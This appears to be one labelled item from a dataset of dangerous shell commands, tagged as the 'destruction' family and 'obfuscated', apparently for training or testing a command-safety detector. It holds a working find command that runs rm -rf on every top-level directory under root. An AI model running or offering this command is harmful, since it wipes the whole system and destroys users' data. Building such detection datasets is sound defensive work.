# description: Uses find -exec to rm -rf every top-level directory under /.
# family: destruction
# obfuscated: yes
find / -mindepth 1 -maxdepth 1 -exec rm -rf {} +
